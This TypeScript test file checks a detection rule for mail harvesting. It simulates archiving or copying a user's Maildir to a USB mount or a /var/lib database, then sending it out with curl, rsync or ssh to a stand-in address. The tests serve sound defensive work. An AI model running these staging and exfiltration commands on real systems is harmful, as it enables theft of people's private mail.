import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Alert } from '../../events/alert.ts';
import type { Process } from '../an0656-phishing-attachment-executed/audit-records.test-support.ts';
import { HostLog, MINUTE } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
import { firesAt, scanLog } from '../an0656-phishing-attachment-executed/stories.test-support.ts';

/** Rules that record writes name folders: what is packed to elsewhere leaves no record but the words of who packed it. */
async function told(pack: string, send: string, isWatched = false): Promise<string> {
  const log = new HostLog();
  const messages = [log.deliver({ to: 'clerk' }), log.deliver({ to: 'clerk' })];
  const shell = log.shell('clerk');
  shell.write('/home/clerk/notes.txt');
  if (isWatched) shell.write('/mnt/usb/plan.txt');
  log.wait(MINUTE);
  const packer = shell.run(pack);
  for (const { path } of messages) packer.read(path);
  log.wait(30 * MINUTE);
  shell.run(send).connect('203.0.113.9', 80);
  return (await scanLog(log)).map(({ analytic, severity }) => `${analytic} ${severity}`).join();
}
const CURL = '/usr/bin/curl -T /mnt/usb/m http://203.0.113.9/up';
const HARVEST = 'AN1310 medium';

test('a box that is packed or copied to where nothing is recorded, and sent from there later', async () => {
  for (const pack of [
    '/usr/bin/tar -czf /mnt/usb/m /home/clerk/Maildir',
    '/usr/bin/zip -r /mnt/usb/m /home/clerk/Maildir',
    '/usr/bin/gpg -c -o /mnt/usb/m /home/clerk/Maildir/new/x',
    '/usr/bin/cp -r /home/clerk/Maildir /mnt/usb/m',
    '/usr/bin/rsync -a /home/clerk/Maildir/ /mnt/usb/m',
  ])
    assert.equal(await told(pack, CURL), HARVEST, pack);
  const copied = '/usr/bin/cp -r /home/clerk/Maildir /mnt/usb/';
  assert.equal(await told(copied, '/usr/bin/rsync -a /mnt/usb/Maildir rsync://203.0.113.9/in/'), HARVEST, copied);
});

test('where writes in that place are recorded, or something else is sent, the words say nothing', async () => {
  const pack = '/usr/bin/tar -czf /mnt/usb/m /home/clerk/Maildir';
  assert.equal(await told(pack, CURL, true), '', 'a record would tell of it');
  assert.equal(await told(pack, '/usr/bin/curl -T /mnt/usb/other http://203.0.113.9/up'), '');
  assert.equal(await told('/usr/bin/tar -czf /usr/bin/m /home/clerk/Maildir', '/usr/bin/curl -T /usr/bin/m x'), '');
  assert.equal(await told('/usr/bin/grep -c From /home/clerk/Maildir/new/x /mnt/usb/m', CURL), '', 'packs nothing');
});

/** `pkgs.py` belongs to ops, who may have it run as root; a database in /var/lib is where no rule records writes. */
async function collected(act: (script: Process, path: string) => void): Promise<readonly Alert[]> {
  const log = new HostLog();
  const { path } = log.deliver({ to: 'clerk' });
  const shell = log.shell('ops');
  shell.write('/opt/inventory/pkgs.py');
  log.wait(MINUTE);
  const who = { ...shell.who, uid: 0 };
  const script = shell.run('/usr/bin/sudo python3 /opt/inventory/pkgs.py', { who });
  act(script.run('/usr/bin/python3 /opt/inventory/pkgs.py').read('/opt/inventory/pkgs.py'), path);
  log.wait(MINUTE);
  const copied = '/var/tmp/core.4711';
  shell.run(`/usr/bin/cp /var/lib/misc/pkgs.db ${copied}`).write(copied);
  shell.fork().read(copied).exec('/usr/bin/ssh root@203.0.113.9 cat').connect('203.0.113.9', 22);
  return scanLog(log);
}
const DB = '/var/lib/misc/pkgs.db';

test('a file that the reader says who may open, where no rule records writes, holds what was read', async () => {
  const alert = firesAt(await collected((script, path) => void script.read(path).chmod(DB, 0o644)), 'AN1310', 'medium');
  assert.match(
    alert.story,
    /read the mail store of clerk with pkgs\.py, staged it in \/var\/lib\/misc\/pkgs\.db and sent/,
  );
  const before = await collected((script, path) => void script.chmod(DB, 0o644).read(path));
  assert.match(before.map(({ title }) => title).join(), /^Mail of clerk read$/, 'set before anything was read');
  const other = await collected((script, path) => void script.read(path).chmod('/var/lib/misc/other.db', 0o644));
  assert.ok(other.every(({ title }) => !title.includes('sent out')));
  assert.ok((await collected(script => void script.chmod(DB, 0o644))).length === 0, 'no mail was read');
});
